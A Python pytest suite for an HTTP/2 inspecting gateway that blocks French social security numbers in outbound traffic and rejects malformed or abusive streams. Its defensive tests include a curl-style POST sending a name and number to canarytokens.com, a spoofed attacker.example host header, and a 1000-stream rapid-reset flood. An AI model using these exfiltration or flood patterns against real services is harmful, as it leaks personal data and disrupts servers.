"""HTTP/2 of clients: every stream judged, read and recorded as an exchange of its own."""

import base64
import concurrent.futures
import hashlib
import random
import time

import pytest

from gateway import SSN_SENSOR, body_of
from http2peer import Client
from net import ATTACKER, CANARY, ORIGIN, POD_DH157, POD_OTHER, until
from peers import Origin, answer, echo, unchunk
from test_tls import NUMBER, ca, connect, https, identities, outside  # noqa: F401
from tlspeers import client, over_tls

SERVICES = SSN_SENSOR + """
services:
  - {name: myapp.default, mode: protect, sensors: {nir: deny}, rules: [{to: any, action: allow}]}
  - {name: dh157.default, mode: monitor, sensors: {nir: alert}, rules: [{to: any, action: allow}]}
  - name: other.default
    mode: protect
    rules: [{to: origin.example, applications: [HTTP2], action: allow}, {to: www.origin.example, action: allow}]
"""


@pytest.fixture(scope="module")
def gateway(shared, outside):  # noqa: F811
    return shared(SERVICES + f'tls: {{trust: "{outside.certificate}"}}\n')


@pytest.fixture
def origin(world, outside, identities):  # noqa: F811
    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]))) as origin:
        yield origin


def open_h2(world, gateway, name="origin.example", address=ORIGIN, **options):
    window = options.pop("window", None)
    strict = options.pop("strict", True)
    tls = connect(world, gateway, name, address, context=client(ca(gateway), alpn=["h2", "http/1.1"]), **options)
    assert tls.selected_alpn_protocol() == "h2"
    return Client(tls, strict, window)


def test_the_story_over_http2(world, gateway, resolver, outside, identities):  # noqa: F811
    posted = f"name=Jeanne+Moreau&nir={NUMBER.decode()}&end=1"
    server = over_tls(outside.server(identities["canarytokens.com"]))
    with Origin(world, 443, CANARY, handler=server) as origin:
        words = ["https://canarytokens.com/stuff/collect", "--http2", "-d", posted]
        assert body_of(https(world, gateway, *words, source=POD_DH157)) == (200, "ok\n")
        event = gateway.events(kind="finding", service="dh157.default")[0]
        assert event["finding"]["match"] == "2*************3" and event["application"] == "HTTP2"
        assert NUMBER in origin.received
        origin.forget()
        status, body = body_of(https(world, gateway, *words))
        assert status == 403 and '"reason":"finding"' in body
        assert b"nir=" not in origin.received
    session = gateway.sessions(service="myapp.default", fqdn="canarytokens.com", status=403)[0]
    assert session["application"] == "HTTP2" and session["method"] == "POST" and session["path"] == "/stuff/collect"
    assert session["tls"]["alpn"] == "h2" and session["tls"]["ja4"][8:10] == "h2"


def test_every_cut_of_a_denied_body(world, gateway, resolver, origin):
    """However it is cut into frames and records, the verdict is the same and nothing leaves."""
    body = b"name=Jeanne&nir=" + NUMBER + b"&end=1"
    peer = open_h2(world, gateway)
    for cut in range(1, len(body)):
        stream = peer.request("/cut", "POST", end=False)
        peer.send(stream, body[:cut], end=False)
        peer.send(stream, body[cut:])
        assert peer.answer(stream).status == 403, cut
    peer.close()
    for piece in (1, 2, 5, 13):
        peer = open_h2(world, gateway)
        stream = peer.request("/piece", "POST", body=body, piece=piece)
        assert peer.answer(stream).status == 403, piece
        peer.close()
    assert NUMBER not in origin.received and b"nir=" not in origin.received


def test_streams_are_judged_each_by_itself(world, gateway, resolver, outside, identities, origin):  # noqa: F811
    """One connection, many streams under way: those with a number are refused, the others go through."""
    peer = open_h2(world, gateway)
    streams = {}
    for index in range(60):
        bad = index % 3 == 0
        body = (b"nir=" + NUMBER if bad else b"nothing") + b" %d " % index
        streams[peer.request(f"/{index}", "POST", body=body, end=False)] = (index, bad)
    for stream in streams:
        peer.send(stream, b"tail")
    for stream, (index, bad) in streams.items():
        assert peer.answer(stream).status == (403 if bad else 200), index
    assert NUMBER not in origin.received
    assert origin.requests == 40
    # Another authority than that of the handshake is judged anew.
    with Origin(world, 443, ATTACKER, handler=over_tls(outside.server(identities["attacker.example"]))) as hidden:
        other = open_h2(world, gateway, source=POD_OTHER)
        assert other.answer(other.request("/")).status == 200
        assert other.answer(other.request("/", host="attacker.example")).status == 403
        assert not hidden.received


def test_big_bodies_both_ways(world, gateway, resolver, outside, identities):  # noqa: F811
    blob = random.Random(1).randbytes(3_000_000)

    def handler(conversation):
        while request := conversation.read_request():
            head, body = request
            sent = unchunk(body) if b"chunked" in head.lower() else body
            conversation.send(answer(sent))

    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]), handler)):
        for fields in ([], [("content-length", str(len(blob)))]):
            peer = open_h2(world, gateway, timeout=30)
            got = peer.answer(peer.request("/echo", "POST", fields=fields, body=blob))
            assert got.status == 200 and got.body == blob and got.ended


def test_a_slow_reader_stops_only_its_own_stream(world, gateway, resolver, outside, identities):  # noqa: F811
    sent = []

    def handler(conversation):
        while request := conversation.read_request():
            if b"GET /big" in request[0]:
                conversation.send(b"HTTP/1.1 200 OK\r\ncontent-length: 50000000\r\n\r\n")
                for _ in range(500):
                    conversation.send(b"a" * 100_000)
                    sent.append(100_000)
            else:
                conversation.send(answer())

    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]), handler)):
        peer = open_h2(world, gateway, window=65_535)
        peer.credit = False
        # The connection has room for all; the stream has none.
        peer.h2.increment_flow_control_window(10_000_000)
        big = peer.request("/big")
        until(lambda: peer.read() and len(peer.answers[big].body) >= 65_535, what="the window to be full")
        for _ in range(20):
            assert peer.answer(peer.request("/small")).status == 200
        time.sleep(0.5)
        assert sum(sent) < 20_000_000, "what is not read is not fetched"
        peer.close()


def test_ends_of_messages(world, gateway, resolver, outside, identities):  # noqa: F811
    def handler(conversation):
        while request := conversation.read_request():
            path = request[0].split()[1]
            conversation.send({
                b"/empty": answer(b"", b"204 No Content").replace(b"content-length: 0\r\n", b""),
                b"/head": b"HTTP/1.1 200 OK\r\ncontent-length: 77\r\n\r\n",
                b"/chunked": b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ntrailer: x-end\r\n\r\n"
                             b"5\r\nhello\r\n6\r\n world\r\n0\r\nx-end: yes\r\n\r\n",
                b"/early": b"HTTP/1.1 103 Early Hints\r\nlink: </a>\r\n\r\n" + answer(b"late"),
                b"/none": b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n",
            }[path])

    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]), handler)):
        peer = open_h2(world, gateway)
        assert peer.answer(peer.request("/empty")).status == 204
        head = peer.answer(peer.request("/head", "HEAD"))
        assert (head.status, head.fields["content-length"], head.body) == (200, "77", b"")
        chunked = peer.answer(peer.request("/chunked"))
        assert chunked.body == b"hello world" and chunked.trailers == {"x-end": "yes"}
        assert not {"transfer-encoding", "connection", "keep-alive"} & set(chunked.fields)
        early = peer.answer(peer.request("/early"))
        assert early.interim[0][":status"] == "103" and early.body == b"late"
        assert peer.answer(peer.request("/none")).ended


def test_trailers_of_a_request_are_read(world, gateway, resolver, origin):
    peer = open_h2(world, gateway)
    stream = peer.request("/t", "POST", body=b"data", end=False)
    peer.h2.send_headers(stream, [("x-note", NUMBER.decode())], end_stream=True)
    peer.flush()
    assert peer.answer(stream).status == 403
    assert NUMBER not in origin.received


def test_resets(world, gateway, resolver, outside, identities):  # noqa: F811
    def handler(conversation):
        while request := conversation.read_request():
            if b"/torn" in request[0]:
                conversation.send(b"HTTP/1.1 200 OK\r\ncontent-length: 1000\r\n\r\nshort")
                time.sleep(0.2)
                raise OSError
            conversation.send(answer())

    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]), handler)):
        peer = open_h2(world, gateway)
        # The origin breaks off: so does the stream, and only it.
        torn = peer.answer(peer.request("/torn"))
        assert torn.reset is not None and not torn.ended
        # The client takes a request back.
        stream = peer.request("/back", "POST", body=b"x" * 1000, end=False)
        time.sleep(0.2)  # one that comes together with its end is not looked at
        peer.h2.reset_stream(stream, 8)
        peer.flush()
        assert peer.answer(peer.request("/fine")).status == 200
    assert gateway.sessions(path="/back")[0]["action"] == "allow"


def test_insisting_on_http2_hides_nothing_in_protect(world, gateway, resolver, origin):
    tls = connect(world, gateway, "origin.example", context=client(ca(gateway), alpn=["h2"]))
    peer = Client(tls)
    assert peer.answer(peer.request("/", "POST", body=b"nir=" + NUMBER)).status == 403
    assert not origin.conversations


def test_websocket(world, gateway, resolver, outside, identities):  # noqa: F811
    """Extended CONNECT (RFC 8441) becomes the upgrade that it stands for; what are no frames is said to be none."""
    def handler(conversation):
        head, _ = conversation.read_request()
        key = head.split(b"sec-websocket-key: ")[1].split(b"\r\n")[0]
        digest = base64.b64encode(hashlib.sha1(key + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
        conversation.send(b"HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: upgrade\r\n"
                          b"sec-websocket-accept: " + digest + b"\r\n\r\n")
        echo(conversation)

    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]), handler)):
        peer = open_h2(world, gateway, source=POD_DH157, strict=False)
        until(lambda: peer.h2.remote_settings.enable_connect_protocol or peer.read(), what="settings")
        stream = peer.request("/ws", "CONNECT", fields=[(":protocol", "websocket"), ("sec-websocket-version", "13")], end=False)
        until(lambda: peer.answers[stream].status or not peer.read(), what="an answer")
        assert peer.answers[stream].status == 200
        peer.send(stream, b"frames", end=False)
        until(lambda: peer.answers[stream].body == b"frames" or not peer.read(), what="an echo")
        peer.send(stream, b"last")
        assert peer.answer(stream).body == b"frameslast"
    session = gateway.sessions(path="/ws")[0]
    assert session["uninspectable"] == "undecodable" and session["application"] == "WebSocket"


def test_what_is_malformed_ends_its_stream(world, gateway, resolver, origin):
    for fields in ([("connection", "close")], [("transfer-encoding", "chunked")], [("X-Upper", "1")], [("te", "gzip")],
                   [("host", "attacker.example")], [("content-length", "5"), ("content-length", "6")]):
        peer = open_h2(world, gateway, strict=False)
        bad = peer.answer(peer.request("/bad", fields=fields))
        assert bad.reset == 1 or bad.status == 400, fields
        assert peer.answer(peer.request("/good")).status == 200
        peer.close()
    assert b"/bad" not in origin.received
    assert gateway.sessions(threat="malformed_http")


def test_known_before(world, gateway, resolver):
    """Prior knowledge, in the clear (RFC 9113 section 3.3)."""
    with Origin(world, 8080) as origin:
        peer = Client(world.connect(ORIGIN, 8080))
        assert peer.answer(peer.request("/a", host="origin.example:8080", scheme="http")).status == 200
        stream = peer.request("/b", "POST", host="origin.example:8080", scheme="http", body=b"nir=" + NUMBER)
        assert peer.answer(stream).status == 403
        assert NUMBER not in origin.received
    assert gateway.sessions(path="/a")[0]["application"] == "HTTP2"


def test_rapid_reset(world, gateway, resolver, origin):
    peer = open_h2(world, gateway, source=POD_DH157)
    for _ in range(1000):
        stream = peer.h2.get_next_available_stream_id()
        head = [(":method", "GET"), (":scheme", "https"), (":authority", "origin.example"), (":path", "/r")]
        peer.h2.send_headers(stream, head, end_stream=True)
        peer.h2.reset_stream(stream, 8)
        try:
            peer.flush()
        except OSError:
            break
    while peer.read():
        pass
    assert peer.goaway == 11  # ENHANCE_YOUR_CALM
    assert gateway.events(threat="http2_rapid_reset")[0]["action"] == "deny"
    again = open_h2(world, gateway)
    assert again.answer(again.request("/after")).status == 200


def test_tools(world, gateway, resolver):
    with Origin(world, 8080):
        urls = ["http://origin.example:8080/one", "http://origin.example:8080/two"]
        done = world.run("pods", ["nghttp", "-nv", *urls], check=False, timeout=20)
        assert done.stdout.count(":status: 200") == 2, done.stdout
        done = world.run("pods", ["h2load", "-n", "2000", "-c", "4", "-m", "20", urls[0]], timeout=30)
        assert "2000 succeeded, 0 failed, 0 errored" in done.stdout, done.stdout


def test_reloads_among_streams(world, gateway, resolver, outside):  # noqa: F811
    config = SERVICES + f'tls: {{trust: "{outside.certificate}"}}\n'
    with Origin(world, 8080), concurrent.futures.ThreadPoolExecutor() as pool:
        load = pool.submit(world.run, "pods", [
            "h2load", "-n", "20000", "-c", "8", "-m", "30", "http://origin.example:8080/load"], timeout=60)
        for turn in range(8):
            gateway.reload(config + f"limits: {{idle_timeout: {60 + turn}s}}\n")
        done = load.result()
    assert "20000 succeeded, 0 failed, 0 errored" in done.stdout, done.stdout


def test_what_was_agreed_on_is_spoken(world, gateway, resolver, origin):
    """HTTP/1.1 where ALPN chose HTTP/2 would be read by one and not by another (RFC 9113 section 3.4)."""
    for words in (b"GET / HTTP/1.1\r\nhost: origin.example\r\n\r\n", b"SSH-2.0-x\r\n"):
        tls = connect(world, gateway, "origin.example", context=client(ca(gateway), alpn=["h2"]), source=POD_DH157)
        assert tls.selected_alpn_protocol() == "h2"
        tls.sendall(words)
        try:
            assert tls.recv(100) == b""
        except OSError:
            pass
        assert gateway.event_of(tls)["threat"] == "malformed_http"
    assert not origin.conversations
